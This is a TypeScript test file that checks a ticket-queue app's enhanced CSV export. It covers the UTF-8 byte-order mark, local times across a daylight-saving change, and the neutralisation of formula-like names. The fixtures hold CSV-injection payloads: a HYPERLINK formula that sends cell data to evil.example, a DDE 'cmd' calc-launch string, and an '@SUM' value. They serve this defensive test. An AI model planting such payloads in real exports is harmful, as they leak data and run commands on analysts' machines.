import { describe, expect, test } from 'bun:test'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { parseCsv, standardTickets, type FixtureTicket } from '../support/fixtures.ts'
import { openTenant, type TestServer } from '../support/harness.ts'
import { browserSetup, chromiumAvailable, openPage, pickerRecord, setRange, useToken } from './support.ts'

/**
 * "Add names and local times": the file a spreadsheet reads as it is. Its cells are checked
 * against the API's export read by another CSV reader and local times computed with Intl, and
 * the file is opened with LibreOffice Calc (Debian's libreoffice-calc), as an analyst would: the
 * local columns are dates, ids stay text, and no name becomes a formula. Names that are formulas
 * are written with a leading apostrophe here and in the charts' numbers.
 */

const SOFFICE = '/usr/bin/soffice'
const sofficeAvailable = existsSync(SOFFICE)
if (!sofficeAvailable && process.env.CI) throw new Error(`${SOFFICE} is missing; .ci/run installs the libreoffice-calc package`)
if (!sofficeAvailable) console.warn(`LibreOffice checks skipped: ${SOFFICE} not installed (apt-get install libreoffice-calc)`)

const ZONE = 'Europe/Amsterdam'
const EVIL_QUEUE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
const CMD_QUEUE = "+cmd|' /C calc'!A0"
const AT_LOCATION = '@SUM(1+1)'
/** A name outside ASCII: read as Latin-1 (no byte-order mark) it would show as "MalmÃ¶". */
const UMLAUT_QUEUE = 'Malmö Pass & ID'
const BOM = [0xef, 0xbb, 0xbf]
const TIMES = ['createdAt', 'calledAt', 'completedAt', 'cancelledAt', 'skippedAt', 'noShowAt']

/** The standard tickets and two on each side of 29 March 2026's 02:00, when Amsterdam moves to summer time. */
function tickets(): FixtureTicket[] {
  return [
    ...standardTickets(),
    { id: 't-101', number: 101, queueId: 'q_zh', locationId: 'loc_b', status: 'WAITING', createdAt: '2026-03-29T00:30:00.000Z' },
    { id: 't-102', number: 102, queueId: 'q_zh', locationId: 'loc_b', status: 'COMPLETED', createdAt: '2026-03-29T01:30:00.000Z', calledAt: '2026-03-29T01:40:00.000Z', completedAt: '2026-03-29T01:45:00.000Z' },
  ]
}

/** The standard organisation with a queue and a location named as formulas. */
function organisationWithFormulaNames(server: TestServer): string {
  const { org, token } = server.seeded({ tickets: tickets() })
  const db = openTenant(server.dataDir, org.id)
  db.query('UPDATE queues SET name = ? WHERE id = ?').run(EVIL_QUEUE, 'q_pay')
  db.query('UPDATE queues SET name = ? WHERE id = ?').run(CMD_QUEUE, 'q_zh')
  db.query('UPDATE locations SET name = ? WHERE id = ?').run(AT_LOCATION, 'loc_b')
  db.query('UPDATE queues SET name = ? WHERE id = ?').run(UMLAUT_QUEUE, 'q_id')
  db.close()
  return token
}

/** An instant's wall-clock time in ZONE as YYYY-MM-DD HH:MM:SS, by Intl (Sweden's locale writes it so), not the page's code. */
function local(iso: string): string {
  return new Intl.DateTimeFormat('sv-SE', { timeZone: ZONE, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', second: '2-digit', hourCycle: 'h23' }).format(new Date(iso))
}

/** What #progress said, every time it changed. */
async function recordProgress(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = ((window as unknown as { progressSeen: string[] }).progressSeen = [])
    const line = document.getElementById('progress')!
    new MutationObserver(() => seen.push(line.textContent!)).observe(line, { childList: true, characterData: true, subtree: true })
  })
  return () => page.evaluate(() => (window as unknown as { progressSeen: string[] }).progressSeen)
}

interface Cell {
  type: string
  date: string | null
  formula: boolean
  text: string
}

/** The first sheet of a flat ODS file as rows of cells (repeated cells spelt out, empty rows dropped). */
function sheetRows(fods: string): Cell[][] {
  const decode = (text: string) => text.replace(/<[^>]+>/g, '').trim().replaceAll('&apos;', "'").replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')
  const rows: Cell[][] = []
  for (const [, row] of fods.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)) {
    const cells: Cell[] = []
    for (const [, attributes, content] of row!.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
      const repeated = Math.min(30, Number(/table:number-columns-repeated="(\d+)"/.exec(attributes!)?.[1] ?? 1))
      const cell = {
        type: /office:value-type="(\w+)"/.exec(attributes!)?.[1] ?? '',
        date: /office:date-value="([^"]+)"/.exec(attributes!)?.[1] ?? null,
        formula: /table:formula=/.test(attributes!),
        text: decode(content ?? ''),
      }
      for (let i = 0; i < repeated; i++) cells.push(cell)
    }
    if (cells.some((cell) => cell.text !== '')) rows.push(cells)
  }
  return rows
}

/**
 * The options of LibreOffice's Text Import dialog as it opens on a fresh profile: comma, quote,
 * the system's character set (UTF-8 here), from row 1, "Detect special numbers" not ticked.
 * Headless, the options must be given: without any, soffice reads a CSV as Latin-1, mark or not.
 */
const CALC_DEFAULTS = '44,34,SYSTEM,1,,0,false,false'
/** The same with "Detect special numbers" ticked. */
const CALC_SPECIAL_NUMBERS = '44,34,SYSTEM,1,,0,false,true'

/** Opens the file's bytes with LibreOffice Calc (its CSV import with `options`) and reads it back as cells. */
async function openInCalc(csv: Uint8Array, options: string): Promise<Cell[][]> {
  const dir = mkdtempSync(join(tmpdir(), 'names-file-'))
  try {
    const file = join(dir, 'tickets.csv')
    writeFileSync(file, csv)
    // A profile of its own: another soffice running on the machine must not take the conversion over.
    const convert = Bun.spawn(
      [SOFFICE, `-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=CSV:${options}`, '--convert-to', 'fods', '--outdir', dir, file],
      { stdout: 'pipe', stderr: 'pipe' },
    )
    expect(await convert.exited).toBe(0)
    return sheetRows(readFileSync(join(dir, 'tickets.fods'), 'utf8'))
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
}

describe.skipIf(!chromiumAvailable)('the file with names and local times', () => {
  const setup = browserSetup({ server: {} })

  test("its cells: the export's, the names, each time in the zone; formula names neutralised; the plain file still the API's", async () => {
    const token = organisationWithFormulaNames(setup.server)
    const { page } = await openPage(setup.browser, setup.server.base, { timezoneId: ZONE })
    await useToken(page, token)
    await page.getByRole('checkbox', { name: 'General' }).waitFor()
    await setRange(page, '2026-03-01', '2026-03-31')
    const api = await (await setup.server.get(`/v1/exports/tickets.csv?from=${encodeURIComponent('2026-02-28T23:00:00.000Z')}&to=${encodeURIComponent('2026-03-31T22:00:00.000Z')}`, token)).text()

    // Unticked: the API's export byte for byte.
    const [plain] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
    const plainBytes = readFileSync((await plain.path())!)
    expect([...plainBytes.subarray(0, 3)]).not.toEqual(BOM)
    expect(plainBytes.toString('utf8')).toBe(api)

    await page.getByLabel('Add names and local times').check()
    const progress = await recordProgress(page)
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
    expect(download.suggestedFilename()).toBe('tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv')
    // A UTF-8 byte-order mark first, so that a spreadsheet reads the names as UTF-8; the CSV after it.
    const bytes = readFileSync((await download.path())!)
    expect([...bytes.subarray(0, 3)]).toEqual(BOM)
    const text = bytes.subarray(3).toString('utf8')
    await page.getByText(/Downloaded .*_names_Europe-Amsterdam\.csv: 8 rows .* Names and local times in Europe\/Amsterdam added\./).waitFor()
    // The rows reach the last ticket's creation, 29 March 01:30 UTC, of the range's [from, to).
    const [from, to] = [Date.parse('2026-02-28T23:00:00.000Z'), Date.parse('2026-03-31T22:00:00.000Z')]
    const reached = Math.round((100 * (Date.parse('2026-03-29T01:30:00.000Z') - from)) / (to - from))
    expect(await progress()).toContainEqual(expect.stringMatching(new RegExp(`^Received 8 rows \\(.+, ${reached}% of the range\\)…$`)))

    const header = text.slice(0, text.indexOf('\r\n')).split(',')
    const apiHeader = api.slice(0, api.indexOf('\r\n')).split(',')
    expect(header).toEqual([...apiHeader, 'locationName', 'queueName', ...TIMES.map((time) => `${time}Local`)])
    const rows = await parseCsv(text)
    const apiRows = await parseCsv(api)
    expect(rows).toHaveLength(8)
    rows.forEach((row, i) => {
      const original = apiRows[i]!
      for (const column of apiHeader) expect(row[column]).toBe(original[column]!)
      for (const time of TIMES) expect(row[`${time}Local`]).toBe(original[time] ? local(original[time]!) : '')
    })
    const byId = new Map(rows.map((row) => [row.id!, row]))
    expect(byId.get('t-001')).toMatchObject({ locationName: 'Amsterdam Centraal (amsterdam)', queueName: `'${EVIL_QUEUE}`, createdAtLocal: '2026-03-02 10:00:00' })
    // Either side of the change to summer time: 01:30 CET and 03:30 CEST.
    expect(byId.get('t-101')).toMatchObject({ locationName: `'${AT_LOCATION}`, queueName: `'${CMD_QUEUE}`, createdAtLocal: '2026-03-29 01:30:00' })
    expect(byId.get('t-102')!.createdAtLocal).toBe('2026-03-29 03:30:00')
    expect(byId.get('t-003')!.queueName).toBe(UMLAUT_QUEUE)

    // The charts' numbers: the same names, neutralised in their CSV too.
    await page.getByRole('button', { name: 'Charts' }).click()
    await page.getByText(/^Charts drawn from/).waitFor()
    const [numbers] = await Promise.all([page.waitForEvent('download'), page.locator('#chart-wait').getByRole('link', { name: 'Download these numbers (CSV)' }).click()])
    const numbersBytes = readFileSync((await numbers.path())!)
    expect([...numbersBytes.subarray(0, 3)]).toEqual(BOM)
    const numbersCsv = numbersBytes.subarray(3).toString('utf8')
    expect(numbersCsv.startsWith('Location,Queue,')).toBe(true)
    expect(numbersCsv).toContain(`,${UMLAUT_QUEUE},`)
    expect(numbersCsv).toContain(`Amsterdam Centraal (amsterdam),"'${EVIL_QUEUE.replaceAll('"', '""')}",`)
    expect(numbersCsv).toContain(`'${AT_LOCATION},'${CMD_QUEUE},`)
    expect(numbersCsv.split('\r\n').filter((line) => /(^|,)[=+\-@]/.test(line))).toEqual([])

    // Both files stay on show: the download did not hide the charts.
    expect(await page.locator('#charts-section').isVisible()).toBe(true)

    if (sofficeAvailable) {
      // The dialog's defaults: the mark is read, not shown; names whole; local times stay text.
      const plainSheet = await openInCalc(bytes, CALC_DEFAULTS)
      const plainColumns = plainSheet[0]!.map((cell) => cell.text)
      expect(plainColumns).toEqual(header)
      const t003 = plainSheet.find((row) => row[plainColumns.indexOf('id')]!.text === 't-003')!
      expect(t003[plainColumns.indexOf('queueName')]).toMatchObject({ type: 'string', text: UMLAUT_QUEUE })
      expect(t003[plainColumns.indexOf('createdAtLocal')]).toMatchObject({ type: 'string', text: local('2026-03-02T10:00:00.000Z') })

      // "Detect special numbers" ticked: the local columns are dates.
      const sheet = await openInCalc(bytes, CALC_SPECIAL_NUMBERS)
      const columns = sheet[0]!.map((cell) => cell.text)
      const column = (name: string) => columns.indexOf(name)
      expect(sheet).toHaveLength(9)
      for (const row of sheet.slice(1)) {
        const id = row[column('id')]!
        expect(id).toMatchObject({ type: 'string', formula: false })
        const original = apiRows.find((candidate) => candidate.id === id.text)!
        for (const time of TIMES) {
          const cell = row[column(`${time}Local`)]
          if (original[time]) expect(cell).toMatchObject({ type: 'date', date: local(original[time]!).replace(' ', 'T') })
          else expect(cell?.text ?? '').toBe('')
          // The API's own instants stay as the API wrote them (text).
          if (original[time]) expect(row[column(time)]).toMatchObject({ type: 'string', text: original[time] })
        }
        for (const name of ['locationName', 'queueName']) expect(row[column(name)]!.formula).toBe(false)
      }
      const t001 = sheet.find((row) => row[column('id')]!.text === 't-001')!
      expect(t001[column('queueName')]).toMatchObject({ type: 'string', text: `'${EVIL_QUEUE}` })
    }
    await page.context().close()
  })

  test('with the Save dialog (Chrome, Edge) the file streams to the file chosen, with the same cells', async () => {
    const token = organisationWithFormulaNames(setup.server)
    const { page } = await openPage(setup.browser, setup.server.base, { timezoneId: ZONE, picker: 'stub' })
    await useToken(page, token)
    await page.getByRole('checkbox', { name: 'General' }).waitFor()
    await setRange(page, '2026-03-01', '2026-03-31')
    await page.getByLabel('Add names and local times').check()
    await page.getByRole('button', { name: 'Download CSV' }).click()
    await page.getByText(/^Saved tickets_.*_names_Europe-Amsterdam\.csv: 8 rows/).waitFor()
    const { dialogs, files } = await pickerRecord(page)
    expect(dialogs.map((dialog) => dialog.suggestedName)).toEqual(['tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv'])
    const file = files['tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv']!
    expect(file.startsWith('\uFEFFid,')).toBe(true)
    const rows = await parseCsv(file.slice(1))
    expect(rows.map((row) => [row.id, row.createdAtLocal])).toEqual(tickets().map((ticket) => [ticket.id, local(ticket.createdAt)]).sort((a, b) => a[1]!.localeCompare(b[1]!) || a[0]!.localeCompare(b[0]!)))
    await page.context().close()
  })
})
